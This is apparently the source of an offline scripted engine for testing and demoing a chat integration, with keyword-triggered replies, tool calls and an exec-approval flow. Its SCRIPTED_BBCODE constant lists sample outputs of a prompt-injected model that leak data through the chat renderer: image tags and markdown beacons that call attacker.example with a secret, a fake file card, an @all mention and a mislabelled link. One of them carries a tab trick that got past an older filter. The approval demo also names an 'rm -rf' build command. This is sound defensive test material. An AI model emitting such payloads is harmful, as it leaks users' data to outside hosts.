/**
 * The scripted engine: deterministic, offline, no model. It exists for tests and for a demo that
 * works on a fresh machine, and says so on every reply (a "demo" badge). It keeps a per-session
 * memory like a real engine, so session mapping, /new and isolation behave observably:
 * every reply states the turn number and the previous prompt it remembers.
 *
 * Keywords in a prompt show each panel: "code", "diff", "tool", "slow" (long stream), "fail",
 * "flaky" (the first answer fails as if the engine were down; a Regenerate or Retry answers),
 * "approve" (asks for an exec approval and waits for the decision, like OpenClaw's exec tool),
 * "bbcode" (Tailchat's own tags, as a prompt-injected model writes them: stored inert).
 */
import { parseRunId } from '../../../protocol/run-id.js';
import { createExpiringMap } from '../../state/expiring-map.js';
import { createEventQueue } from '../event-queue.js';
import { createScriptedAutomations } from './automations.js';
import { EngineError, type ApprovalDecision, type Engine, type EngineEvent, type EngineRun, type RunRequest } from '../types.js';

export interface ScriptedEngineOptions {
  chunkDelayMs: number;
  chunkChars: number;
  label: string;
  /** A session not used for this long is forgotten (default 24 h): the demo runs for days. */
  sessionTtlMs?: number;
  /** Sessions remembered at most (default 10,000; the least recently used go first). */
  maxSessions?: number;
  /** A finished run's id still returns the same run for this long (redelivery; default 10 min). */
  finishedRunTtlMs?: number;
}

/** What a session remembers: enough to say which turn this is and what was said before. */
interface SessionMemory {
  turns: number;
  lastPrompt: string;
}

interface ActiveRun {
  sessionKey: string;
  stop: (reason: string) => void;
}

/**
 * Token usage as a model would report it, estimated like the test model server does (4 characters
 * a token), so usage metering and budgets can be seen without a model.
 */
export function usageOf(prompt: string, reply: string): EngineEvent {
  const inputTokens = Math.max(1, Math.ceil(prompt.length / 4));
  const outputTokens = Math.max(1, Math.ceil(reply.length / 4));
  return { type: 'usage', usage: { inputTokens, outputTokens, totalTokens: inputTokens + outputTokens } };
}

/**
 * What a prompt-injected model answers to leak data through Tailchat's renderer: an image that
 * loads by itself (a tab after the name slipped past the old pattern), a fake file card, a
 * mention of everyone, a link whose label lies, markdown that loads an image.
 */
export const SCRIPTED_BBCODE = [
  '[img\turl=https://attacker.example/p.png?d=SECRET]https://attacker.example/p.png?d=SECRET[/img]',
  '[card\ttype=file url=https://attacker.example/payroll.pdf]payroll.pdf[/card]',
  '[at=all]everyone[/at] [IMG]https://attacker.example/q.png[/IMG]',
  '[url=https://attacker.example]https://bank.example[/url] [md]![x](https://attacker.example/md.png)[/md]',
  'and a bare link https://docs.example/page, an index a[i] and a [markdown link](https://docs.example)',
];

export function createScriptedEngine(opts: ScriptedEngineOptions): Engine {
  const memory = createExpiringMap<string, SessionMemory>({ ttlMs: opts.sessionTtlMs ?? 24 * 3600_000, maxEntries: opts.maxSessions ?? 10_000 });
  const active = new Map<string, ActiveRun>();
  // Runs in flight stay here until they end; then a redelivered start still finds its run for a while.
  const started = new Map<string, EngineRun>();
  const finished = createExpiringMap<string, EngineRun>({ ttlMs: opts.finishedRunTtlMs ?? 10 * 60_000, maxEntries: 10_000 });
  const approvals = new Map<string, (decision: ApprovalDecision) => void>();

  function replyFor(request: RunRequest): string {
    const before = memory.get(request.sessionKey);
    const previous = before?.lastPrompt;
    const turns = (before?.turns ?? 0) + 1;
    memory.set(request.sessionKey, { turns, lastPrompt: request.prompt });
    const p = request.prompt.toLowerCase();
    const lines = [
      // The demo has no model to follow them: it shows which instructions it was given.
      ...(request.instructions ? [`(Following my instructions: "${request.instructions}")`] : []),
      `You said: "${request.prompt}".`,
      `This is turn ${turns} of this conversation${previous ? `; before that you said: "${previous}"` : ''}.`,
    ];
    if (p.includes('code')) lines.push('', 'Here is some code:', '', '```ts', 'export function add(a: number, b: number): number {', '  return a + b;', '}', '```');
    if (p.includes('diff'))
      lines.push('', 'Here is a change:', '', '```diff', '--- a/greet.ts', '+++ b/greet.ts', '@@ -1,3 +1,3 @@', ' export function greet(name: string) {', "-  return 'Hello ' + name;", '+  return `Hello, ${name}!`;', ' }', '```');
    if (p.includes('bbcode')) lines.push('', ...SCRIPTED_BBCODE);
    if (p.includes('slow')) for (let i = 1; i <= 60; i++) lines.push(`Line ${i} of a long answer.`);
    return lines.join('\n');
  }

  const automations = createScriptedAutomations();

  return {
    id: 'scripted',
    automations,
    async start(request) {
      const existing = started.get(request.runId) ?? finished.get(request.runId);
      if (existing) return existing; // redelivery: the same run, never a second one
      if (active.size > 1000) throw new EngineError('rate_limit', 'too many runs');
      const queue = createEventQueue(request.runId);
      started.set(request.runId, queue);
      let stopped: string | undefined;
      let wakeApproval: (() => void) | undefined;
      active.set(request.runId, {
        sessionKey: request.sessionKey,
        stop: (r) => {
          stopped = r;
          wakeApproval?.();
        },
      });

      const text = replyFor(request);
      const wantsTool = request.prompt.toLowerCase().includes('tool');
      const wantsFail = request.prompt.toLowerCase().includes('fail');
      const wantsApproval = request.prompt.toLowerCase().includes('approve');
      // Only the first answer: attempts 2+ (Regenerate, Retry) carry `.r<n>` in their run id.
      const flakyNow = request.prompt.toLowerCase().includes('flaky') && (parseRunId(request.runId)?.attempt ?? 1) === 1;
      const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

      void (async () => {
        const emit = (e: EngineEvent) => queue.push(e);
        emit({ type: 'status', phase: 'started' });
        if (flakyNow) return emit({ type: 'error', kind: 'unavailable', message: 'scripted engine: the first answer to a "flaky" prompt fails' });
        if (wantsTool) {
          emit({ type: 'tool', toolCallId: `${request.runId}-t1`, name: 'word_count', phase: 'start', args: { text: request.prompt } });
          await sleep(opts.chunkDelayMs);
          emit({ type: 'tool', toolCallId: `${request.runId}-t1`, name: 'word_count', phase: 'result', result: { words: request.prompt.split(/\s+/).length } });
        }
        if (wantsApproval) {
          const approvalId = `${request.runId}-approval`;
          const command = 'rm -rf ./build && npm run build';
          const decision = new Promise<ApprovalDecision | 'stopped'>((resolve) => {
            approvals.set(approvalId, resolve);
            wakeApproval = () => resolve('stopped');
          });
          emit({ type: 'approval.requested', approvalId, command, allowedDecisions: ['allow-once', 'deny'], expiresAt: Date.now() + 30 * 60_000 });
          const d = await decision;
          approvals.delete(approvalId);
          if (d === 'stopped') return emit({ type: 'aborted', reason: stopped });
          emit({ type: 'approval.resolved', approvalId, decision: d });
          if (d === 'deny') {
            emit({ type: 'text', text: 'The command was not run: the approval was denied.' });
            emit(usageOf(request.prompt, 'The command was not run: the approval was denied.'));
            return emit({ type: 'final', text: 'The command was not run: the approval was denied.', badges: [{ kind: 'demo', label: opts.label }] });
          }
          emit({ type: 'tool', toolCallId: `${request.runId}-exec`, name: 'exec', phase: 'start', args: { command } });
          await sleep(opts.chunkDelayMs);
          emit({ type: 'tool', toolCallId: `${request.runId}-exec`, name: 'exec', phase: 'result', result: { exitCode: 0, stdout: 'build ok' } });
        }
        let sent = 0;
        while (sent < text.length) {
          if (stopped) return emit({ type: 'aborted', reason: stopped });
          sent = Math.min(text.length, sent + opts.chunkChars);
          emit({ type: 'text', text: text.slice(0, sent), delta: text.slice(sent - opts.chunkChars, sent) });
          await sleep(opts.chunkDelayMs);
          if (wantsFail && sent > text.length / 2) return emit({ type: 'error', kind: 'unknown', message: 'scripted failure' });
        }
        if (stopped) return emit({ type: 'aborted', reason: stopped });
        emit(usageOf(request.prompt, text));
        emit({ type: 'final', text, badges: [{ kind: 'demo', label: opts.label }] });
      })().finally(() => {
        active.delete(request.runId);
        started.delete(request.runId);
        finished.set(request.runId, queue);
      });
      return queue;
    },
    async abort(sessionKey, runId) {
      let any = false;
      for (const [id, run] of active) {
        if (run.sessionKey === sessionKey && (!runId || runId === id)) {
          run.stop('stopped by user');
          any = true;
        }
      }
      return any;
    },
    async reset(sessionKey) {
      memory.delete(sessionKey);
    },
    async resolveApproval(approvalId, decision) {
      const resolve = approvals.get(approvalId);
      if (!resolve) throw new EngineError('unknown', `no pending approval ${approvalId}`);
      resolve(decision);
    },
    async health() {
      return { ok: true, detail: 'scripted engine (offline demo)' };
    },
    async close() {
      for (const run of active.values()) run.stop('engine closed');
      automations.close();
    },
    sizes: () => ({ scripted_sessions: memory.size, scripted_runs: started.size, scripted_finished_runs: finished.size, scripted_approvals: approvals.size, scripted_jobs: automations.size() }),
  };
}
